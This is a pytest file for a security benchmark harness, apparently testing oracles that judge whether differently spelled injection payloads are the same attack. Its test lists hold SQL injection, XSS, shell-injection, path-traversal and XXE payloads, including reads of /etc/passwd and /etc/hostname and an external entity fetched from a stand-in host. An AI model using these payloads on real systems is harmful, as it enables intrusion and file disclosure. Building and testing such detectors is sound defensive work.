"""The oracles of tier B: texts that are the same attack, texts that are not, and texts that are not attacks."""

import importlib.util
import os
import random
import subprocess
import sys
from collections.abc import Callable

import pytest
from harness.benchmarks.synthetic import cards

from harness import UserError, oracles
from harness.oracles import html, paths, shell, sql, xml
from tests.conftest import ROOT

Same = Callable[[str, str], bool]
ROUNDS = 8_000 if os.environ.get("HARNESS_FULL_ROUNDS") else 600

ORACLES: dict[str, Same] = {
    "sql-injection": sql.same,
    "cross-site-scripting": html.same,
    "command-injection": shell.same,
    "path-traversal": paths.same,
    "xml-external-entity": xml.same,
}
DTD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY {0} "k"><!ENTITY % p SYSTEM "http://h.example/{1}"> %p;]><a>&{0};</a>'
ALIKE: list[tuple[Same, str, str]] = [
    (sql.same, "1 OR 1=1 -- ", "1\toR/*k*/1 =\n01-- "),
    (sql.same, "x' AND sleep(2)#", "x' && sLEEP( 02 )#"),
    (sql.same, "x' or length('ab')>1 and sleep(1)-- k", "x' || 1<length('a' 'b') && sleep(1)-- k"),
    (sql.same, "1 AND extractvalue(1,concat(0x5b,'k'))", "1 AND extractvalue(1,concat('[',0x6b))"),
    (sql.same, "x' or 'a'='a", "x'or'a' like 'a"),
    (sql.same, "-1 union select 1,database(),3", "-1 union distinct select 1,database(),3"),
    (sql.same, "1 or 2<>3", "1 or 3!=2"),
    (sql.same, "9'; IF (1=1) WAITFOR DELAY '00:00:03'--", "9';if(1=1) WAITFOR\tDELAY '00:00:03'--"),
    (html.same, "<img src=x onerror=alert(1)>", "<IMG\nsrC = x oNerror=&#97;lert(1) >"),
    (html.same, '" onclick="alert(1)" x="', '"ONclick="ale&#x72;t(1)"\tx="'),
    (html.same, "javascript:alert(1)", "jAvA\tscript:alert(1)"),
    (html.same, "</textarea><script>alert(1)</script>", "</textAREA ><script\t>alert(1)</SCRIPT>"),
    (shell.same, "x;cat /etc/hostname", "x;c'a't${IFS}\"/etc\"/host\\name"),
    (shell.same, "x`sleep 3`y", "x`sl''eep$IFS$93`y"),
    (shell.same, 'x" ; ping -c 1 192.0.2.1 ; "', 'x" ; p"i"ng\t-c$IFS$91 192.0.2.1 ; "'),
    (shell.same, "a$(id || hostname)b", "a$(i''d || host\\name)b"),
    (paths.same, "../../etc/passwd", ".././/../etc/./passwd"),
    (paths.same, "..\\..\\windows\\win.ini", "../.\\..//windows/win.ini"),
    (paths.same, "%2e%2e%2f%2e%2e%2fetc", "%2e%2e%2f%2f%2e%2f%2e%2e/etc"),
    (paths.same, "....//....//etc/passwd", "....//./....//etc//passwd"),
    (paths.same, "file:///etc/passwd?x=/a", "file:///etc/.//passwd?x=/a"),
    (xml.same, f"{DTD}<a b='1' c='2'>t&x;</a>", f"{DTD}<a c = \"&#50;\"\nb='1'><![CDATA[t]]>&x;</a>"),
    (xml.same, f"{DTD}<a>&x;</a>", f"{DTD.replace(chr(34), chr(39))}<a>&x;</a\n>"),
    (xml.same, f"{DTD}<a>&x;</a>", f"{DTD.replace('x', 'own')}<a>&own;</a>"),
]  # fmt: skip

APART: list[tuple[Same, str, str]] = [
    (sql.same, "1 OR 1=1 -- ", "1 OR 1=1 --"),  # the query's own rest may follow at once
    (sql.same, "1 OR 1=1 -- ", "1 OR 1=1"),
    (sql.same, "x' AND 1=1-- ", "x' && 1=1-- "),  # an error in other databases than MySQL
    (sql.same, "x'||(select 'k')||'", "x' OR (select 'k') OR '"),  # a concatenation in them
    (sql.same, "1 or 'a'='b'", '1 or "a"=\'b\''),  # a name in them
    (sql.same, "1 and 'a'='a' and sleep(1)", "1 and 0x61='a' and sleep(1)"),  # another collation
    (sql.same, "1 or a between 1 and 2 and sleep(1)", "1 or a between 1 && 2 and sleep(1)"),
    (sql.same, "1 or 'a%'='a'", "1 or 'a' like 'a%'"),
    (sql.same, "1 union select a from Users", "1 union select a from users"),
    (sql.same, "1 or count(*)>0 or sleep(1)", "1 or count (*)>0 or sleep(1)"),  # MySQL: no such function
    (sql.same, "1 union select cast(1 as char),2", "1 union select cast(1 as char,2"),  # sqlglot closes it
    (sql.same, "1 union select 1,2", "1 union select 1,,2"),  # sqlglot skips it
    (sql.same, "1 or x is not null", "1 or x not null"),
    (sql.same, "(select sleep(3))/*'+(sleep(3))+'*/", "(select sleep(3))/*+(sleep(3))+'*/"),  # code in other contexts
    (html.same, "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(2)>"),
    (html.same, '<img src=x onerror="alert(1)">', '<img src=x onerror="alert(1)>'),
    (html.same, "</textarea><script>alert(1)</script>", "</textare><script>alert(1)</script>"),
    (html.same, '"><svg onload=alert(1)><input name="', '"><svg onload=alert(1)><nput name="'),
    (html.same, '<?xml version="1.0"?><svg onload="alert(1)"/>', '<?xml version="1.0"?><SVG onload="alert(1)"/>'),
    (shell.same, "x;cat /etc/hostname", "x;cat$IFSa/etc/hostname"),
    (shell.same, "x;cat /etc/host*", "x;cat '/etc/host*'"),
    (shell.same, "x;cat /etc/hostname", "x;c'at /etc/hostname"),
    (shell.same, "x;id #'", "x;id #"),
    (shell.same, "x;echo $HOME", "x;echo '$HOME'"),
    (shell.same, "x;for i in 1; do id; done", "x;f''or i in 1; do id; done"),
    (shell.same, "x;A=b id", "x;A=b${IFS}id"),
    (shell.same, "x;id >/tmp/k", "x;id$IFS'>'/tmp/k"),
    (paths.same, "../../etc/passwd", "../etc/passwd"),
    (paths.same, "../../etc/passwd", "../../etc/x/../passwd"),  # there has to be an x
    (paths.same, "../../etc/passwd", "..\\..\\etc\\passwd"),
    (paths.same, "/etc/passwd", "//etc/passwd"),
    (paths.same, "../a%00.png", "../a%00./.png"),
    (xml.same, f"{DTD}<a>&x;</a>", f"{DTD}<a>&x;&x;</a>"),
    (xml.same, f"{DTD}<a>&x;</a>", f"{DTD.replace('hostname', 'hosts')}<a>&x;</a>"),
    (xml.same, f"{DTD}<a>&x;</a>", f"{DTD}<a>&x;<a>"),
    (xml.same, OUTSIDE.format("x", "d"), OUTSIDE.format("y", "d")),  # what is at h.example may name it
    (xml.same, '<!DOCTYPE a [<!ENTITY x "k">]><a b="&x;"/>', '<!DOCTYPE a [<!ENTITY x "k">]><a b="k"/>'),
]  # fmt: skip

NO_ATTACKS: list[tuple[Same, str]] = [
    (sql.same, "O'Brien"), (sql.same, "title DESC"), (sql.same, '[{"field":"sleep(3)"}]'), (sql.same, ""),
    (html.same, "<b>bold</b>"), (html.same, "it's (fine)"), (html.same, '"; alert(1); "'),
    (shell.same, "report (final)"), (shell.same, "cats and dogs"), (shell.same, "x & type C:\\windows\\win.ini"),
    (shell.same, "new java.lang.ProcessBuilder({'id'}).start()"),
    (paths.same, "images/a.png"), (paths.same, "a/b/../c"), (paths.same, "phar://a.phar/b"), (paths.same, "data:,x"),
    (xml.same, "<a>text</a>"), (xml.same, "<a>&x;</a>"), (xml.same, "no xml"),
]  # fmt: skip


@pytest.mark.parametrize(("same", "before", "after"), ALIKE)
def test_spellings_of_one_attack_are_the_same(same: Same, before: str, after: str) -> None:
    assert same(before, after)
    assert same(before, before)


@pytest.mark.parametrize(("same", "before", "after"), APART)
def test_what_another_parser_could_read_otherwise_is_not_the_same(same: Same, before: str, after: str) -> None:
    assert same(before, before)
    assert not same(before, after)


@pytest.mark.parametrize(("same", "text"), NO_ATTACKS)
def test_a_text_that_is_not_an_attack_is_not_even_the_same_as_itself(same: Same, text: str) -> None:
    assert not same(text, text)


def test_oracles_answer_for_any_text() -> None:
    rng = random.Random(0)
    checkable = [card for card in cards.load() if card.threat_class in ORACLES]
    cores = [(ORACLES[card.threat_class], core.text) for card in checkable for core in card.cores]
    pieces = [*"'\"`()[]{}<>;|&#-/*\\$%!=,. \n\t\0\xa0\xff", "--", "/*", "*/", "$(", "${", "&#", "<!", "]]>", "utf-7"]
    for _ in range(ROUNDS):
        same, text = rng.choice(cores)
        mutant = list(text)
        for _ in range(rng.randint(1, 5)):
            at = rng.randrange(len(mutant) + 1)
            mutant[at : at + rng.randint(0, 3)] = rng.choice((rng.choice(pieces), rng.choice(cores)[1][:12]))
        assert same(text, "".join(mutant)) in (True, False)
        assert same("".join(mutant), text) in (True, False)


@pytest.mark.parametrize(
    "text",
    ["x;echo ${HOME", "x;id '${'", "1 or ''is null,", "<?xml version='1.0' encoding='k'?>"],
)
def test_texts_that_parsers_fail_on_are_never_the_same(text: str) -> None:
    assert not any(same(text, text) for same in ORACLES.values())


def test_missing_parsers_are_named_with_the_extra_that_brings_them(monkeypatch: pytest.MonkeyPatch) -> None:
    oracles.require()
    find_spec, missing = importlib.util.find_spec, ("bashlex", "sqlglot")
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None if name in missing else find_spec(name))
    with pytest.raises(
        UserError, match=r"needs bashlex and sqlglot; install them with: pip install 'shortcut-harness\[oracles\]'"
    ):
        oracles.require()


def test_parsers_load_on_first_use() -> None:
    program = (
        "import sys; from harness import oracles; from harness.perturbations import suite; suite('all'); "
        "oracles.require(); print([m for m in ('bashlex', 'selectolax', 'sqlglot') if m in sys.modules])"
    )
    process = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True, cwd=ROOT)
    assert process.stdout.strip() == "[]"
